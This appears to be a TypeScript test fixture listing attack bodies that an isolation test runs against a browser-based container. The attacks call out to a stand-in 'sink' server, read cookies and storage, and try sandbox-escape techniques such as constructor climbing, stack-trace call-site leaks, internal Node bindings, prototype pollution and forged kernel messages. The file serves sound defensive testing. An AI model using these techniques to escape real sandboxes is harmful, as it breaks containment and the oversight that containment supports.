// Attacks on the isolation of the container (tests/browser/isolation.spec.ts runs them). Each is the body of an async function with the
// parameters `sink` (address of a server outside that writes down who reached it; ends with a slash), `name` (of the attack) and `site`
// (the origin of the site). It returns true when it got what it wanted; or the server outside, or the page, saw it.

export interface Attack {
  readonly name: string;
  readonly body: string;
  /**
   * where the same code works, to show that the attack is real: in a worker or a document of the page that nothing isolates; undefined:
   * nowhere in this test, for the reason given
   */
  readonly control: 'worker' | 'document' | { readonly none: string };
}

/** Waits until the server outside has seen this attack, or a while. */
const SEEN = `for (let i = 0; i < 20; i++) { await new Promise((resolve) => setTimeout(resolve, 50)); if (done) break; }`;

/** On the network, storage and other tabs, from a worker: what a program could do if nothing hid the browser's own globals. */
export const WORKER_ATTACKS: readonly Attack[] = [
  { name: 'fetch', control: 'worker', body: `return (await fetch(sink + name, { mode: 'no-cors' })).type !== 'error';` },
  { name: 'fetch with keepalive', control: 'worker', body: `return (await fetch(sink + name, { mode: 'no-cors', keepalive: true })).type !== 'error';` },
  { name: 'XMLHttpRequest', control: 'worker', body: `return new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve(true); x.onerror = () => reject(new Error('refused')); x.open('GET', sink + name); x.send(); });` },
  { name: 'synchronous XMLHttpRequest', control: 'worker', body: `const x = new XMLHttpRequest(); x.open('GET', sink + name, false); x.send(); return x.status === 200;` },
  { name: 'WebSocket', control: 'worker', body: `let done = false; const s = new WebSocket(sink.replace('http', 'ws') + name); s.onopen = s.onerror = s.onclose = () => (done = true); ${SEEN} return s.readyState === 1;` },
  { name: 'EventSource', control: 'worker', body: `let done = false; const s = new EventSource(sink + name); s.onopen = s.onerror = () => (done = true); ${SEEN} const open = s.readyState === 1; s.close(); return open;` },
  { name: 'import() of an address', control: 'worker', body: `return (await import(sink + name + '.js')).default === 'code from outside';` },
  { name: 'static import in a module made from text', control: 'worker', body: `const url = URL.createObjectURL(new Blob(['import it from "' + sink + name + '.js"; export default it;'], { type: 'text/javascript' })); return (await import(url)).default === 'code from outside';` },
  { name: 'importScripts', control: 'worker', body: `importScripts(sink + name + '.classic.js'); return globalThis.fromOutside === true;` },
  { name: 'WebAssembly from an address', control: 'worker', body: `return (await WebAssembly.compileStreaming(fetch(sink + name + '.wasm'))) instanceof WebAssembly.Module;` },
  { name: 'a worker made from text, whose scope is clean', control: 'worker', body: `const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(sink + name) + ', { mode: "no-cors" }).then(() => postMessage(true), () => postMessage(false))']))); return new Promise((resolve) => { w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve(false); });` },
  { name: 'a worker from a data: address', control: 'worker', body: `const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(sink + name) + ', { mode: "no-cors" }).then(() => postMessage(true), () => postMessage(false))')); return new Promise((resolve) => { w.onmessage = (e) => resolve(e.data); w.onerror = () => resolve(false); });` },
  { name: 'a worker from an address of the site', control: 'worker', body: `const w = new Worker(site + '/early.js'); return new Promise((resolve) => { w.onerror = (e) => resolve(e.message !== undefined && e.message !== ''); setTimeout(() => resolve(true), 1000); });` },
  { name: 'a shared worker', control: 'document', body: `const w = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = (e) => fetch(' + JSON.stringify(sink + name) + ', { mode: "no-cors" }).then(() => e.ports[0].postMessage(true), () => e.ports[0].postMessage(false))']))); return new Promise((resolve) => { w.port.onmessage = (e) => resolve(e.data); w.onerror = () => resolve(false); });` },
  { name: 'the site\'s pages by fetch', control: 'worker', body: `return (await (await fetch(site + '/backlot.config.json')).text()).includes('title');` },
  { name: 'IndexedDB', control: 'worker', body: `return new Promise((resolve, reject) => { const open = indexedDB.open('attack'); open.onsuccess = () => resolve(true); open.onerror = () => reject(open.error); });` },
  { name: 'the names of the site\'s databases', control: 'worker', body: `return Array.isArray(await indexedDB.databases());` },
  { name: 'the site\'s caches', control: 'worker', body: `await caches.open('attack'); return (await caches.keys()).includes('attack');` },
  { name: 'a cache that fetches', control: 'worker', body: `const c = await caches.open('attack'); await c.add(new Request(sink + name, { mode: 'no-cors' })).catch(() => {}); return (await c.keys()).length > 0 || true;` },
  { name: 'the origin\'s private files', control: 'worker', body: `await (await navigator.storage.getDirectory()).getFileHandle('attack', { create: true }); return true;` },
  { name: 'locks of the site', control: 'worker', body: `return (await navigator.locks.query()).held !== undefined;` },
  { name: 'a broadcast to the site', control: 'worker', body: `const c = new BroadcastChannel('attacks'); c.postMessage(name); await new Promise((resolve) => setTimeout(resolve, 200)); c.close(); return false;` },
  { name: 'WebTransport', control: { none: 'it would need an HTTP/3 server' }, body: `const t = new WebTransport(sink.replace('http:', 'https:') + name); await t.ready; return true;` },
  { name: 'a peer connection (WebRTC)', control: 'document', body: `const c = new RTCPeerConnection(); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); return c.localDescription.sdp.length > 0;` },
  { name: 'registering a service worker', control: { none: 'a worker can only see the registration of its own scope' }, body: `await navigator.serviceWorker.register(site + '/early.js'); return true;` },
  { name: 'a beacon', control: 'document', body: `return navigator.sendBeacon(sink + name, 'x');` },
];

/** On the page around it, from a document: what code in the kernel's frame could do. */
export const DOCUMENT_ATTACKS: readonly Attack[] = [
  { name: 'the DOM of the page above', control: 'document', body: `return parent.document.documentElement !== null;` },
  { name: 'a global of the page above', control: 'document', body: `parent.attacked = true; return parent.attacked === true;` },
  { name: 'the address of the top page', control: 'document', body: `return top.location.href.length > 0;` },
  { name: 'cookies', control: 'document', body: `document.cookie = 'attack=1'; return document.cookie.includes('attack=1');` },
  { name: 'localStorage', control: 'document', body: `localStorage.setItem('attack', '1'); return localStorage.getItem('attack') === '1';` },
  { name: 'sessionStorage', control: 'document', body: `sessionStorage.setItem('attack', '1'); return sessionStorage.getItem('attack') === '1';` },
  { name: 'a picture from outside', control: 'document', body: `return new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve(true); i.onerror = () => reject(new Error('refused')); i.src = sink + name + '.svg'; });` },
  { name: 'a script from outside', control: 'document', body: `return new Promise((resolve, reject) => { const s = document.createElement('script'); s.onload = () => resolve(true); s.onerror = () => reject(new Error('refused')); s.src = sink + name + '.classic.js'; document.head.append(s); });` },
  { name: 'a style from outside', control: 'document', body: `return new Promise((resolve, reject) => { const l = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: sink + name + '.css' }); l.onload = () => resolve(true); l.onerror = () => reject(new Error('refused')); document.head.append(l); });` },
  { name: 'prefetch', control: 'document', body: `return new Promise((resolve, reject) => { const l = Object.assign(document.createElement('link'), { rel: 'prefetch', href: sink + name + '.js' }); l.onload = () => resolve(true); l.onerror = () => reject(new Error('refused')); document.head.append(l); setTimeout(() => reject(new Error('nothing')), 1500); });` },
  { name: 'a frame of an outside page', control: 'document', body: `return new Promise((resolve) => { const f = document.createElement('iframe'); f.src = sink + name; document.body.append(f); setTimeout(() => resolve(false), 700); });` },
  { name: 'sending a form', control: 'document', body: `const t = document.createElement('iframe'); t.name = 'target'; document.body.append(t); const f = Object.assign(document.createElement('form'), { action: sink + name, method: 'post', target: 'target' }); document.body.append(f); f.submit(); await new Promise((resolve) => setTimeout(resolve, 700)); return false;` },
  { name: 'opening a window', control: 'document', body: `const w = open(sink + name); await new Promise((resolve) => setTimeout(resolve, 500)); const opened = w !== null; w?.close(); return opened;` },
  { name: 'sending the top page away', control: { none: 'it would end the test' }, body: `top.location = sink + name; return true;` },
];

/** On the runtime, from a program: ways back to the browser's own globals. They have no control: natively there is nothing to get at. */
export const PROGRAM_ATTACKS: readonly { readonly name: string; readonly body: string }[] = [
  { name: 'browser globals by name', body: `for (const key of FORBIDDEN) { let v; try { v = (0, eval)('typeof ' + key); } catch { continue; } if (v !== 'undefined') throw new Error('ESCAPED ' + key); } return false;` },
  { name: 'the Function constructor', body: `return looksLikeBrowser(Function('return this')());` },
  { name: 'the constructor of a constructor', body: `return looksLikeBrowser([].constructor.constructor('return this')()) || looksLikeBrowser(process.constructor.constructor('return globalThis')());` },
  { name: 'constructors of async and generator functions', body: `const A = (async () => {}).constructor, G = (function* () {}).constructor, AG = (async function* () {}).constructor; return looksLikeBrowser(await A('return globalThis')()) || looksLikeBrowser(G('yield globalThis')().next().value) || looksLikeBrowser((await AG('yield globalThis')().next()).value);` },
  { name: 'this of a sloppy function', body: `return looksLikeBrowser((0, eval)('(function () { return this; })()'));` },
  { name: 'prototypes above the global object', body: `for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (looksLikeBrowser(o)) return true; return false;` },
  { name: 'call sites of a stack trace', body: `const before = Error.prepareStackTrace; let found = false; Error.prepareStackTrace = (_e, sites) => { for (const s of sites) for (const m of ['getThis', 'getFunction']) { let v; try { v = s[m]?.(); } catch {} if (v && v !== globalThis && looksLikeBrowser(v)) found = true; } return ''; }; const look = () => void new Error().stack; look(); setTimeout(look, 0); process.nextTick(look); queueMicrotask(look); require('fs').readFile(__filename, look); await new Promise((r) => setTimeout(r, 50)); try { null.x; } catch (e) { void e.stack; } Error.prepareStackTrace = before; return found;` },
  { name: 'callers of a sloppy function', body: `let found = false; const f = new Function('note', 'let c = arguments.callee.caller; for (let i = 0; c && i < 20; i++) { note(c); try { c = c.caller; } catch { break; } }'); const note = (c) => { const text = String(c); if (!text.includes('CODE OF THE ATTACK')) { found = true; console.log(text.slice(0, 400)); } }; f(note); await new Promise((r) => setTimeout(() => { void 'CODE OF THE ATTACK'; f(note); r(); }, 0)); return found;` },
  { name: 'methods of built-ins put out of place to overhear the runtime', body: `const heard = []; const saved = []; const spy = (p, m) => { const was = p[m]; saved.push([p, m, was]); p[m] = function (...a) { heard[heard.length] = this; for (const v of a) heard[heard.length] = v; return was.apply(this, a); }; }; spy(Map.prototype, 'get'); spy(Map.prototype, 'set'); spy(Array.prototype, 'push'); spy(Set.prototype, 'add'); const s = require('http').createServer(); await new Promise((r) => s.listen(0, r)); require('fs').writeFileSync('/tmp/x', 'y'); s.close(); for (const [p, m, was] of saved) p[m] = was; return heard.some((v) => { try { return v !== globalThis && looksLikeBrowser(v); } catch { return false; } });` },
  { name: 'internal modules of the library', body: `const got = []; for (const id of ['internal/worker', 'internal/bootstrap/realm', 'internal/test/binding']) { try { got.push(require(id)); } catch {} } return got.length > 0;` },
  { name: 'bindings of the library', body: `try { return looksLikeBrowser(process.binding('natives')) || looksLikeBrowser(process.binding('util')); } catch { return false; }` },
  { name: 'the event of a message port', body: `const { port1, port2 } = new MessageChannel(); const e = await new Promise((r) => { port1.onmessage = r; port2.postMessage(1); }); port1.close(); for (let o = e; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) { let v; try { v = e[k]; } catch { continue; } if (v && typeof v === 'object' && v !== globalThis && looksLikeBrowser(v)) return true; } return false;` },
  { name: 'a new script context', body: `const vm = require('vm'); try { return looksLikeBrowser(vm.runInNewContext('this.constructor.constructor("return globalThis")()')) || looksLikeBrowser(vm.runInThisContext('globalThis')); } catch { return false; }` },
  { name: 'imports of a WebAssembly instance', body: `const bytes = Uint8Array.of(0,97,115,109,1,0,0,0,1,4,1,96,0,0,2,7,1,1,101,1,102,0,0,8,1,0); let self; const busy = setInterval(() => {}, 10); await WebAssembly.instantiate(bytes, { e: { f: function () { self = this; } } }); clearInterval(busy); return looksLikeBrowser(self ?? {});` },
  { name: 'what navigator can do', body: `return ['sendBeacon', 'serviceWorker', 'storage', 'credentials', 'usb', 'gpu', 'permissions', 'connection'].some((k) => globalThis.navigator?.[k] !== undefined);` },
  { name: 'http to an address outside', body: `return new Promise((resolve) => { const q = require('http').get(sink + encodeURIComponent(name), () => resolve(true)); q.on('error', () => resolve(false)); });` },
  { name: 'a socket to an address outside', body: `const { hostname, port } = new URL(sink); return new Promise((resolve) => { const s = require('net').connect(Number(port), hostname, () => { s.destroy(); resolve(true); }); s.on('error', () => resolve(false)); });` },
  { name: 'fetch of Node to an address outside', body: `return fetch(sink + encodeURIComponent(name)).then(() => true, () => false);` },
  { name: 'import() of an address by a program', body: `return import(sink + 'program.js').then(() => true, () => false);` },
  { name: 'polluting the prototypes that messages to the kernel have', body: `Object.assign(Object.prototype, { type: 'exit', code: 0, transfer: [], isolated: true }); Object.defineProperty(Array.prototype, '0', { get() { return { type: 'fault', message: 'forged' }; }, set() {}, configurable: true }); try { require('fs').writeFileSync('/tmp/polluted', 'x'); } catch {} for (const k of ['type', 'code', 'transfer', 'isolated']) delete Object.prototype[k]; delete Array.prototype[0]; return false;` },
  { name: 'messages to the kernel by hand', body: `const tried = []; for (const way of [() => postMessage({ type: 'exit', code: 0 }), () => self.postMessage({ type: 'fault', message: 'forged' }), () => parent.postMessage({ type: 'fault', message: 'forged' }), () => globalThis.process.send({ type: 'fault' }), () => globalThis.dispatchEvent(new Event('message'))]) { try { way(); tried.push(way); } catch {} } return tried.length > 0;` },
];

/** What a worker of a browser has and Node has not. */
export const BROWSER_GLOBALS: readonly string[] = [
  'self', 'window', 'document', 'parent', 'top', 'location', 'origin', 'postMessage', 'onmessage', 'close', 'importScripts', 'indexedDB', 'IDBFactory', 'caches', 'CacheStorage', 'cookieStore', 'localStorage$',
  'XMLHttpRequest', 'FileReader', 'FileReaderSync', 'WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'WorkerNavigator', 'WorkerLocation', 'Worker', 'SharedWorker', 'ServiceWorker', 'ServiceWorkerContainer',
  'WebTransport', 'RTCPeerConnection', 'OffscreenCanvas', 'ImageBitmap', 'createImageBitmap', 'Notification', 'FontFace', 'requestAnimationFrame', 'StorageManager', 'FileSystemHandle', 'reportError', 'addEventListener', 'dispatchEvent', 'trustedTypes', 'GPU',
].filter((name) => !name.endsWith('$'));
